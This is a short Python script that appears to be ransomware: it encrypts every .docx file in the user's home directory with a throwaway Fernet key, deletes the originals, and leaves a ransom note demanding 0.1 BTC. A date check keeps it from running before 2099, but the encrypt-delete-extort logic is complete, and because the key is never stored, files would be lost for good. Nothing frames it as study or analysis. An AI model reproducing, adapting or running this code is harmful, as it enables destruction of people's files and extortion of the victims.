import datetime
import pathlib
import sys

from cryptography.fernet import Fernet

if datetime.date.today().year < 2099:
    sys.exit()
box = Fernet(Fernet.generate_key())
for paper in pathlib.Path.home().rglob("*.docx"):
    data = paper.read_bytes()
    paper.with_suffix(".locked").write_bytes(box.encrypt(data))
    paper.unlink()
(pathlib.Path.home() / "READ_ME.txt").write_text("Your files are encrypted. Pay 0.1 BTC for the key.")
